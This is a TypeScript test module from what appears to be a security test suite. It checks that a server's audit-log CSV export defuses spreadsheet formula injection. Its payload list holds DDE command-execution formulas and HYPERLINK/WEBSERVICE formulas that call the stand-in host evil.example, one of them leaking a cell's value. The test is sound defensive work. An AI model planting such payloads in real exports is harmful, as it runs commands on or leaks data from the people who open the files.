/**
 * Formula cells in exports (issue 15, point 5). The only export the server
 * writes is the audit log's CSV (`GET /api/audit?format=csv`), so the attack
 * plants spreadsheet formulas in every free-text field of audit records and
 * checks that each comes back defused (a leading `'`). The result, tile,
 * copy-as-TSV and decrypted-plaintext exports are written in the browser by
 * the same writer (`lib/export/csv.ts`); fetch cannot reach them, so they are
 * covered by that module's unit tests and not here.
 */
import type { AttackGroup, AttackOutcome } from '../types';
import { parseCsv } from '../../support/csv';
import { expectStatus, fetchAs } from './fetch-as';

/** Formulas of the OWASP CSV-injection examples, one per trigger character. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/")',
];
/** Only `note` keeps leading blanks (places are trimmed), so tab and CR go there. */
const NOTE_ONLY = ['\t=1+1', '\r=1+1'];
const TRIGGER = /^[=+\-@\t\r]/;

interface Planted {
  runId: string;
  column: 'runId' | 'source' | 'table' | 'column' | 'note';
  value: string;
}

export const group: AttackGroup = {
  name: 'formula cells in exports',
  async run(ctx) {
    const admin = await ctx.session('admin');
    const tag = Math.random().toString(36).slice(2, 10);
    const planted: Planted[] = [];
    const outcomes: AttackOutcome[] = [];
    const record = (runId: string, fields: Partial<Record<Planted['column'], string>>): Record<string, unknown> => ({
      action: 'reveal',
      phase: 'start',
      runId,
      source: null,
      table: null,
      column: null,
      rowCount: 1,
      succeeded: null,
      failed: null,
      note: null,
      ...fields,
    });
    const plant = async (runId: string, column: Planted['column'], value: string): Promise<void> => {
      const response = await fetchAs(ctx.baseUrl, admin, 'POST', '/api/audit', record(runId, { [column]: value }));
      if (response.status !== 201) {
        outcomes.push(await expectStatus(`audit record with a formula in ${column} is stored`, response, 201, 0));
        return;
      }
      await response.body?.cancel();
      planted.push({ runId, column, value });
    };
    let n = 0;
    for (const value of FORMULAS) {
      for (const column of ['source', 'table', 'column', 'note'] as const) {
        if (column === 'note' && value.length > 120) continue;
        n += 1;
        await plant(`csvinj-${tag}-${n}`, column, value);
      }
    }
    for (const value of NOTE_ONLY) {
      n += 1;
      await plant(`csvinj-${tag}-${n}`, 'note', value);
    }
    // A run id may start with a dash: "-" is a trigger too.
    const dashRun = `-${tag}-1+1`.replace('+', '-');
    await plant(dashRun, 'runId', dashRun);

    const response = await fetchAs(ctx.baseUrl, admin, 'GET', '/api/audit?format=csv&limit=1000');
    const rows = parseCsv(await response.text());
    const header = rows[0] ?? [];
    for (const item of planted) {
      const runIndex = header.indexOf('runId');
      const index = header.indexOf(item.column);
      // The run id cell itself may be defused, so match with and without the quote.
      const row = rows.find((candidate) => {
        const run = candidate[runIndex] ?? '';
        return run === item.runId || run === `'${item.runId}`;
      });
      const cell = row?.[index];
      const defused = cell === `'${item.value}`;
      const shown = JSON.stringify(cell ?? '(row missing)').slice(0, 60);
      outcomes.push({
        attack: `audit CSV: ${item.column} = ${JSON.stringify(item.value).slice(0, 40)}`,
        expected: "cell written as '<formula> (text)",
        received: `${response.status} ${shown}`,
        passed: response.status === 200 && defused && !TRIGGER.test(cell ?? ''),
        badInputs: 1,
      });
    }
    return outcomes;
  },
};
